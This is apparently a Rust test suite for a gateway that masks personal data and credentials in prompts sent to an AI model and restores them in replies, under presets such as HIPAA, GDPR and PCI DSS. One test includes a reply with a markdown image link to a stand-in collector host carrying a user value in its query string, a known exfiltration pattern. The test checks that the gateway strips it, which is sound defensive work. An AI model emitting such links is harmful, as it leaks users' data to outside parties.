//! Policies through the engine: for each strategy and each preset, the text the upstream gets
//! is exactly what the strategy says, and the reply gets back what it allows (placeholders and
//! synthetic values restored, nothing else). Card verification codes never reach the upstream,
//! the vault or a session record. Values were written for this project (test card numbers are
//! the card networks' published test numbers).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::cell::RefCell;
use std::collections::HashMap;
use std::fs;
use std::path::Path;

use prompt_guard_engine::config::FilterConfig;
use prompt_guard_engine::exchange::{guard_reply, guard_request};
use prompt_guard_engine::memo::MemoScope;
use prompt_guard_engine::policy::keys::{open_tokens, SealKey};
use prompt_guard_engine::policy::Preset;
use prompt_guard_engine::protocol::Api;
use prompt_guard_engine::store::{SessionSettings, SessionStore, SharedData, StoreError};
use prompt_guard_engine::vault::Vault;
use serde_json::{json, Value};

const HASH_KEY: &str = "0123456789abcdef0123456789abcdef-test-hash-key";
const SEAL_KEY: &str = "000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f";

fn env(name: &str) -> Option<String> {
    match name {
        "PG_HASH_KEY" => Some(HASH_KEY.to_owned()),
        "PG_SEAL_KEY" => Some(SEAL_KEY.to_owned()),
        _ => None,
    }
}

fn config(policy: Value) -> FilterConfig {
    let doc = json!({ "policy": policy, "threats": {"enabled": false} });
    FilterConfig::from_json_with_env(doc.to_string().as_bytes(), &env).unwrap()
}

/// Mask one user message; returns what the upstream gets and the exchange's vault.
fn send(cfg: &FilterConfig, text: &str) -> (String, Vault) {
    let body = json!({"model": "m", "messages": [{"role": "user", "content": text}]}).to_string();
    let mut vault = Vault::with_capacity(100);
    let out = guard_request(cfg, Api::OpenAiChat, body.as_bytes(), true, &mut vault, MemoScope::NONE).unwrap();
    let sent: Value = serde_json::from_slice(&out.body.unwrap_or_else(|| body.into_bytes())).unwrap();
    (sent["messages"][0]["content"].as_str().unwrap().to_owned(), vault)
}

/// The assistant's reply as the client gets it.
fn reply(cfg: &FilterConfig, vault: &Vault, text: &str) -> String {
    let body = json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": text}}]}).to_string();
    let out = guard_reply(cfg, body.as_bytes(), vault);
    let doc: Value = serde_json::from_slice(&out.body.unwrap_or_else(|| body.into_bytes())).unwrap();
    doc["choices"][0]["message"]["content"].as_str().unwrap().to_owned()
}

fn only(strategy: &str, label: &str) -> Value {
    json!({"strategies": {label: strategy}})
}

const EMAIL: &str = "jonas.keller@posteo.de";
const CARD: &str = "4242 4242 4242 4242";

#[test]
fn placeholder_is_restored() {
    let cfg = config(json!({}));
    let (sent, vault) = send(&cfg, &format!("write to {EMAIL}"));
    assert_eq!(sent, "write to [EMAIL_1]");
    assert_eq!(reply(&cfg, &vault, "I wrote to [EMAIL_1]."), format!("I wrote to {EMAIL}."));
}

#[test]
fn synthetic_values_are_format_valid_and_restored() {
    let cfg = config(json!({"strategies": {"EMAIL": "synthetic", "CREDIT_CARD": "synthetic", "JWT": "synthetic"}}));
    let (sent, vault) = send(&cfg, &format!("write to {EMAIL} about card {CARD}, and {EMAIL} again"));
    assert_eq!(sent, "write to user1@example.com about card 4000 0000 0000 0002, and user1@example.com again");
    assert!(vault.is_empty(), "synthetic values are kept apart from placeholders");
    let back = reply(&cfg, &vault, "Sent to user1@example.com; card 4000 0000 0000 0002 noted. user2@example.com?");
    assert_eq!(back, format!("Sent to {EMAIL}; card {CARD} noted. user2@example.com?"));
}

#[test]
fn a_synthetic_value_in_an_outside_link_is_never_restored_into_it() {
    let doc = json!({"policy": {"strategies": {"EMAIL": "synthetic"}}}).to_string();
    let cfg = FilterConfig::from_json(doc.as_bytes()).unwrap();
    let (sent, vault) = send(&cfg, &format!("write to {EMAIL}"));
    assert_eq!(sent, "write to user1@example.com");
    let back = reply(&cfg, &vault, "Done. ![status](https://collector.example.net/p.png?u=user1@example.com)");
    assert!(!back.contains(EMAIL) && !back.contains("collector.example.net"), "{back}");
}

#[test]
fn mask_keeps_length_and_separators_and_is_not_restored() {
    let cfg = config(only("mask", "EMAIL"));
    let (sent, vault) = send(&cfg, &format!("write to {EMAIL}"));
    assert_eq!(sent, "write to *****.******@******.**");
    assert!(vault.is_empty() && vault.synthetic_entries().is_empty());
    assert_eq!(reply(&cfg, &vault, "wrote to *****.******@******.**"), "wrote to *****.******@******.**");
}

#[test]
fn partial_keeps_what_the_type_rule_says() {
    let cfg = config(json!({"strategies": {"EMAIL": "partial", "CREDIT_CARD": "partial"}}));
    let (sent, vault) = send(&cfg, &format!("card {CARD}, mail {EMAIL}"));
    assert_eq!(sent, "card 4242 42** **** 4242, mail *****.******@posteo.de");
    assert!(vault.is_empty());
    assert_eq!(reply(&cfg, &vault, "card 4242 42** **** 4242"), "card 4242 42** **** 4242");
}

#[test]
fn redact_writes_redacted_or_the_label() {
    let (sent, vault) = send(&config(only("redact", "EMAIL")), &format!("write to {EMAIL}"));
    assert_eq!(sent, "write to [REDACTED]");
    assert!(vault.is_empty());
    let cfg = config(json!({"strategies": {"EMAIL": "redact"}, "redact_style": "label"}));
    let (sent, vault) = send(&cfg, &format!("write to {EMAIL}"));
    assert_eq!(sent, "write to [EMAIL]");
    assert_eq!(reply(&cfg, &vault, "wrote to [EMAIL]"), "wrote to [EMAIL]");
}

#[test]
fn hash_is_stable_across_exchanges_and_keyed() {
    let cfg = config(only("hash", "EMAIL"));
    let (first, vault) = send(&cfg, &format!("write to {EMAIL}"));
    let (second, _) = send(&config(only("hash", "EMAIL")), &format!("mail {EMAIL} now"));
    let pseudonym = first.strip_prefix("write to ").unwrap();
    assert!(pseudonym.starts_with("EMAIL_") && pseudonym.len() == "EMAIL_".len() + 16, "{pseudonym}");
    assert!(pseudonym["EMAIL_".len()..].bytes().all(|b| b.is_ascii_hexdigit()));
    assert_eq!(second, format!("mail {pseudonym} now"));
    assert!(vault.is_empty());
    assert_eq!(reply(&cfg, &vault, pseudonym), pseudonym, "a pseudonym is never restored");
    // Another key, another pseudonym.
    let other = |name: &str| (name == "PG_HASH_KEY").then(|| "another key of at least thirty-two bytes".to_owned());
    let doc = json!({"policy": only("hash", "EMAIL")}).to_string();
    let cfg2 = FilterConfig::from_json_with_env(doc.as_bytes(), &other).unwrap();
    assert_ne!(send(&cfg2, &format!("write to {EMAIL}")).0, first);
}

#[test]
fn encrypt_gives_a_token_only_the_key_opens() {
    let cfg = config(only("encrypt", "EMAIL"));
    let (sent, vault) = send(&cfg, &format!("write to {EMAIL}"));
    assert!(sent.starts_with("write to enc.EMAIL.") && !sent.contains("jonas"), "{sent}");
    assert!(vault.is_empty());
    assert_eq!(reply(&cfg, &vault, &sent), sent, "the gateway does not open tokens in replies");
    let key = SealKey::from_hex(SEAL_KEY).unwrap();
    assert_eq!(open_tokens(&sent, &key), (format!("write to {EMAIL}"), 1));
}

#[test]
fn a_value_replaced_irreversibly_is_replaced_wherever_it_recurs() {
    let cfg = config(only("mask", "EMAIL"));
    let body = json!({"model": "m", "messages": [
        {"role": "user", "content": format!("my address is {EMAIL}")},
        {"role": "assistant", "content": format!("{EMAIL}?")},
    ]})
    .to_string();
    let mut vault = Vault::with_capacity(10);
    let out = guard_request(&cfg, Api::OpenAiChat, body.as_bytes(), true, &mut vault, MemoScope::NONE).unwrap();
    let sent = String::from_utf8(out.body.unwrap()).unwrap();
    assert!(!sent.contains(EMAIL), "{sent}");
    assert_eq!(out.masked.total(), 2);
}

#[test]
fn keep_forwards_as_written() {
    let (sent, vault) = send(&config(only("keep", "EMAIL")), &format!("write to {EMAIL}"));
    assert_eq!(sent, format!("write to {EMAIL}"));
    assert!(vault.is_empty());
}

#[test]
fn levels_apply_to_every_type_of_the_level_unless_the_type_is_named() {
    let cfg = config(json!({"levels": {"medium": "redact"}, "strategies": {"PHONE": "placeholder"}}));
    let (sent, _) = send(&cfg, &format!("mail {EMAIL}, phone +49 30 901820 12"));
    assert_eq!(sent, "mail [REDACTED], phone [PHONE_1]");
}

#[test]
fn secrets_only_masks_credentials_and_forwards_personal_data() {
    let cfg = config(json!({"preset": "secrets_only"}));
    let (sent, _) = send(&cfg, &format!("mail {EMAIL}, key AKIAC4HH6XZPFTCASVMZ"));
    assert_eq!(sent, format!("mail {EMAIL}, key [AWS_ACCESS_KEY_1]"));
}

#[test]
fn hipaa_safe_harbor_reduces_dates_zip_codes_and_ages() {
    let cfg = config(json!({"preset": "hipaa_safe_harbor"}));
    let (sent, vault) = send(&cfg, "Patient: John Smith, DOB: 1985-03-15, MRN: MRN-123456, aged 93.");
    assert_eq!(sent, "Patient: [PERSON_1], DOB: 1985, MRN: [MEDICAL_RECORD_1], aged 90 or older.");
    assert_eq!(reply(&cfg, &vault, "[PERSON_1] ([MEDICAL_RECORD_1])"), "John Smith (MRN-123456)");
    // ZIP codes keep three digits, except the prefixes of fewer than 20,000 people.
    assert_eq!(send(&cfg, "Send it to ZIP: 90210-1234").0, "Send it to ZIP: 902**");
    assert_eq!(send(&cfg, "Send it to ZIP: 03601").0, "Send it to ZIP: 000**");
}

#[test]
fn gdpr_strict_redacts_health_identifiers_and_replaces_the_rest() {
    let cfg = config(json!({"preset": "gdpr_strict"}));
    let (sent, _) = send(&cfg, &format!("{EMAIL}, MRN: MRN-123456, IBAN DE89 3704 0044 0532 0130 00"));
    assert_eq!(sent, "[EMAIL_1], MRN: [REDACTED], IBAN [IBAN_1]");
}

/// Shared data with Envoy's CAS rule (as in `store.rs`).
#[derive(Default)]
struct Memory {
    values: RefCell<HashMap<String, (Vec<u8>, u32)>>,
}

impl SharedData for Memory {
    fn get(&self, key: &str) -> Result<Option<(Vec<u8>, u32)>, StoreError> {
        Ok(self.values.borrow().get(key).cloned())
    }
    fn set(&self, key: &str, value: &[u8], _cas: Option<u32>) -> Result<(), StoreError> {
        let mut values = self.values.borrow_mut();
        let n = values.len() as u32 + 1;
        values.insert(key.to_owned(), (value.to_vec(), n));
        Ok(())
    }
}

#[test]
fn pci_dss_card_verification_codes_reach_neither_upstream_nor_vault_nor_session() {
    for policy in
        [json!({"preset": "pci_dss"}), json!({"preset": "pci_dss", "strategies": {"CREDIT_CARD": "placeholder"}})]
    {
        let cfg = config(policy.clone());
        let (sent, vault) = send(&cfg, &format!("card {CARD}, CVV 737, expires 09/29"));
        assert!(!sent.contains("737"), "{policy}: {sent}");
        assert!(sent.contains("CVV [REDACTED]"), "{policy}: {sent}");
        let kept: Vec<&str> =
            vault.entries().iter().chain(vault.synthetic_entries()).map(|e| e.original.as_str()).collect();
        assert!(!kept.iter().any(|v| v.contains("737")), "{policy}: {kept:?}");
        // What a session record keeps, read back the way the next exchange would.
        let data = Memory::default();
        let settings = SessionSettings { ttl_seconds: 60, max_entries: 100, max_sessions: 10 };
        let keys = crate::support::test_keys();
        let store = SessionStore::new(&data, &settings, &keys);
        store.save("tenant/user", 1, &vault).unwrap();
        assert!(!data.values.borrow().values().any(|(v, _)| v.windows(3).any(|w| w == b"737")));
        let mut next = Vault::with_capacity(100);
        store.load_into("tenant/user", 2, &cfg.restore.grammar, &mut next).unwrap();
        assert!(!next.entries().iter().any(|e| e.original.contains("737")));
    }
    let (sent, vault) = send(&config(json!({"preset": "pci_dss"})), &format!("card {CARD}"));
    assert_eq!(sent, "card 4242 42** **** 4242");
    assert!(vault.is_empty(), "a partial card number is not kept");
}

#[test]
fn pci_dss_never_writes_a_card_number_to_a_session_record() {
    let cfg = config(json!({"preset": "pci_dss", "strategies": {"CREDIT_CARD": "placeholder"}}));
    let (sent, vault) = send(&cfg, &format!("card {CARD}, mail {EMAIL}"));
    assert_eq!(sent, "card [CREDIT_CARD_1], mail [EMAIL_1]");
    let data = Memory::default();
    let settings = SessionSettings { ttl_seconds: 60, max_entries: 100, max_sessions: 10 };
    let keys = crate::support::test_keys();
    let store = SessionStore::new(&data, &settings, &keys);
    store.save("tenant/user", 1, &vault).unwrap();
    let mut next = Vault::with_capacity(100);
    store.load_into("tenant/user", 2, &cfg.restore.grammar, &mut next).unwrap();
    let kept: Vec<&str> = next.entries().iter().map(|e| e.label.as_str()).collect();
    assert_eq!(kept, ["EMAIL"], "the e-mail mapping is kept, the card's is not");
    assert!(!data.values.borrow().values().any(|(v, _)| v.windows(4).any(|w| w == b"4242")));
}

#[test]
fn a_card_verification_code_is_never_written_to_a_session_record_under_any_policy() {
    let cfg = config(json!({}));
    let (sent, vault) = send(&cfg, &format!("card {CARD}, CVV 737"));
    assert_eq!(sent, "card [CREDIT_CARD_1], CVV [CARD_CVV_1]");
    let data = Memory::default();
    let settings = SessionSettings { ttl_seconds: 60, max_entries: 100, max_sessions: 10 };
    let keys = crate::support::test_keys();
    let store = SessionStore::new(&data, &settings, &keys);
    store.save("tenant/user", 1, &vault).unwrap();
    let mut next = Vault::with_capacity(100);
    store.load_into("tenant/user", 2, &cfg.restore.grammar, &mut next).unwrap();
    let kept: Vec<&str> = next.entries().iter().map(|e| e.label.as_str()).collect();
    assert_eq!(kept, ["CREDIT_CARD"]);
}

#[test]
fn pci_dss_refuses_an_override_that_would_weaken_the_verification_code() {
    let doc = json!({"policy": {"preset": "pci_dss", "strategies": {"CARD_CVV": "placeholder"}}}).to_string();
    let e = FilterConfig::from_json(doc.as_bytes()).unwrap_err();
    assert_eq!(e.field, "policy.strategies.CARD_CVV");
}

#[test]
fn every_preset_has_an_example_that_compiles_under_its_preset() {
    let dir = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/../..")).join("examples/policies");
    for preset in Preset::ALL {
        let path = dir.join(format!("{}.json", preset.name()));
        let bytes = fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        let cfg = FilterConfig::from_json_with_env(&bytes, &env).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        assert_eq!(cfg.policy.preset, preset, "{}", path.display());
    }
}

#[test]
fn the_opener_opens_what_the_gateway_sealed() {
    use std::io::Write;
    use std::process::{Command, Stdio};
    let cfg = config(only("encrypt", "EMAIL"));
    let (sent, _) = send(&cfg, &format!("write to {EMAIL}"));
    let open = |key: &str| {
        let mut child = Command::new(env!("CARGO_BIN_EXE_prompt-guard-open"))
            .env("PG_SEAL_KEY", key)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(sent.as_bytes()).unwrap();
        let out = child.wait_with_output().unwrap();
        assert!(out.status.success());
        String::from_utf8(out.stdout).unwrap()
    };
    assert_eq!(open(SEAL_KEY), format!("write to {EMAIL}"));
    assert_eq!(open(&"ab".repeat(32)), sent, "another key opens nothing");
}

/// The type table of `docs/policies.md`: a row per built-in type with its sensitivity and its
/// strategy under each preset, as the code has them.
fn type_table() -> String {
    use prompt_guard_engine::entity::BuiltinKind;
    use prompt_guard_engine::policy::preset_strategy;
    let mut out = String::from("| type | level |");
    for preset in Preset::ALL {
        out.push_str(&format!(" `{}` |", preset.name()));
    }
    out.push_str("\n|---|---|");
    out.push_str(&"---|".repeat(Preset::ALL.len()));
    out.push('\n');
    for kind in BuiltinKind::ALL {
        out.push_str(&format!("| `{}` | {} |", kind.label(), kind.sensitivity().name()));
        for preset in Preset::ALL {
            out.push_str(&format!(" {} |", preset_strategy(preset, kind).name()));
        }
        out.push('\n');
    }
    out
}

#[test]
fn the_documented_type_table_is_the_code() {
    let path = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/../..")).join("docs/policies.md");
    let doc = fs::read_to_string(&path).unwrap_or_default();
    let table = type_table();
    assert!(doc.contains(&table), "docs/policies.md must hold this table, as the code has it:\n\n{table}");
}

#[test]
fn synthetic_values_are_restored_in_streamed_replies_whatever_the_chunking() {
    use prompt_guard_engine::sse::{SseRestorer, StreamProtocol};
    let cfg = config(json!({"strategies": {"EMAIL": "synthetic"}}));
    let (sent, vault) = send(&cfg, &format!("write to {EMAIL}"));
    assert_eq!(sent, "write to user1@example.com");
    let event =
        |c: &str| format!("data: {}\n\n", json!({"id": "x", "choices": [{"index": 0, "delta": {"content": c}}]}));
    let stream: String = ["Sent to user1@", "example.com", " and ", "user1@example.com", ". user1@example.comx"]
        .iter()
        .map(|c| event(c))
        .chain(std::iter::once("data: [DONE]\n\n".to_owned()))
        .collect();
    let want = format!("Sent to {EMAIL} and {EMAIL}. user1@example.comx");
    for cut in (0..stream.len()).step_by(7) {
        let mut restorer = SseRestorer::new(StreamProtocol::OpenAiChat);
        let mut out = Vec::new();
        restorer.push(&stream.as_bytes()[..cut], &vault, &cfg.restore, &mut out);
        restorer.push(&stream.as_bytes()[cut..], &vault, &cfg.restore, &mut out);
        restorer.finish(&vault, &cfg.restore, &mut out);
        let text: String = String::from_utf8(out)
            .unwrap()
            .lines()
            .filter_map(|l| l.strip_prefix("data: "))
            .filter_map(|d| serde_json::from_str::<Value>(d).ok())
            .filter_map(|v| v["choices"][0]["delta"]["content"].as_str().map(str::to_owned))
            .collect();
        assert_eq!(text, want, "cut at {cut}");
    }
}

/// Every positive case of the detector's fixtures (`tests/fixtures/pii`, each with its source),
/// masked under every preset: the upstream gets the value as the preset's table says for its
/// type (kept as written, a placeholder, redacted, or at least not the value).
#[test]
fn every_preset_treats_every_fixture_identifier_as_its_table_says() {
    use prompt_guard_engine::entity::BuiltinKind;
    use prompt_guard_engine::policy::{preset_strategy, Strategy};
    let dir = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/../..")).join("tests/fixtures/pii");
    let mut cases = Vec::new();
    for entry in fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|e| e != "jsonl") {
            continue;
        }
        for line in fs::read_to_string(&path).unwrap().lines().filter(|l| !l.trim().is_empty()) {
            let case: Value = serde_json::from_str(line).unwrap();
            // `secret_formats.jsonl` is keyed by the secret's format, not a type: its types are
            // covered by `secrets.jsonl`.
            let Some(label) = case["type"].as_str() else { continue };
            let kind = BuiltinKind::from_label(label).unwrap();
            let text = case["text"].as_str().unwrap().to_owned();
            let expect: Vec<String> =
                case["expect"].as_array().unwrap().iter().map(|v| v.as_str().unwrap().to_owned()).collect();
            if !expect.is_empty() {
                cases.push((kind, text, expect));
            }
        }
    }
    assert!(cases.len() > 200, "{} fixture cases", cases.len());
    let mut checked = std::collections::BTreeSet::new();
    for preset in Preset::ALL {
        let cfg = config(json!({"preset": preset.name()}));
        for (kind, text, expect) in &cases {
            // The text as a text body: one user text, as the fixtures specify it.
            let mut vault = Vault::with_capacity(100);
            let out = guard_request(&cfg, Api::Generic, text.as_bytes(), false, &mut vault, MemoScope::NONE).unwrap();
            let sent = String::from_utf8(out.body.unwrap_or_else(|| text.clone().into_bytes())).unwrap();
            let why = format!("{} {kind}: {text:?} -> {sent:?}", preset.name());
            let strategy = preset_strategy(preset, *kind);
            for value in expect {
                match strategy {
                    Strategy::Keep => assert!(sent.contains(value.as_str()), "{why}"),
                    _ => assert!(!sent.contains(value.as_str()), "{why}"),
                }
            }
            match strategy {
                Strategy::Placeholder => assert!(sent.contains(&format!("[{}_", kind.label())), "{why}"),
                Strategy::Redact => assert!(sent.contains("[REDACTED]"), "{why}"),
                _ => {}
            }
            checked.insert((preset.name(), kind.label()));
        }
    }
    // Every type has fixtures, under every preset.
    assert_eq!(checked.len(), Preset::ALL.len() * BuiltinKind::ALL.len());
}
